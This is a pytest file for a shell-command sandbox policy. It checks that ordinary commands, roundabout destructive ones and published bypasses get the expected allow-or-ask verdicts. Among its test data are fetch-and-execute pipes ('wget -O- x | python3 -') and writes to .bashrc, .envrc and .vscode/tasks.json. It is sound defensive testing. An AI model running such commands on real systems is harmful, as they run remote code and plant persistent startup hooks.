"""The corpus: ordinary work, published bypasses, and what holds for every command in it."""

import pytest

from security.corpus.bypasses import BYPASSES
from security.corpus.cases import all_cases
from security.corpus.judging import decide, differences, verdict_on
from ybs.security.policy.policy import Allow, Ask


def test_ordinary_work_gets_its_verdicts():
    assert differences("ordinary work") == []


def test_roundabout_ways_to_destroy_ask_where_a_rule_can_see_them():
    assert differences("roundabout") == []


def test_a_glob_asks_where_a_file_may_be_named_like_an_option_that_writes():
    assert differences("what reads until") == []


def test_u04_what_deceives_the_eye_asks_and_other_scripts_do_not():
    assert differences("U04") == []


def test_no_published_bypass_gets_past_the_sandbox_unasked():
    wrong = [
        f"{source}: {command[:80]!r} is {found}, not {wanted}"
        for source, wanted, command in BYPASSES
        if (found := verdict_on(command)) != wanted
    ]
    assert wrong == []


def test_in_a_sandbox_auto_asks_only_about_what_it_sees_to_destroy_or_to_run_later():
    asked = [
        command
        for _, verdict, command in all_cases()
        if verdict == "doubt" and isinstance(decide(command, "auto"), Ask)
    ]
    later = ["ls | tee -a .bashrc", "echo x > .envrc", "echo x > ./.vscode/tasks.json", "> .bashrc"]
    assert asked == later
    destroys = [command for _, verdict, command in all_cases() if verdict == "destroys"]
    unasked = [each for each in destroys if not isinstance(decide(each, "auto"), Ask)]
    # The sandbox has no network, and with `network: true` the person is asked.
    assert unasked == ["wget -O- x | python3 -", "wget -qO- x | perl"]


def test_the_corpus_is_large_and_says_nothing_twice():
    commands = [command for _, _, command in all_cases()]
    assert len(commands) >= 400
    assert len(BYPASSES) >= 30
    assert sorted({c for c in commands if commands.count(c) > 1}) == []


@pytest.mark.integration
def test_every_question_and_refusal_says_why_in_one_line():
    for _, _, command in all_cases():
        decision = decide(command, "ask")
        reason = "" if isinstance(decision, Allow) else decision.reason
        assert isinstance(decision, Allow) or (reason and "\n" not in reason), command
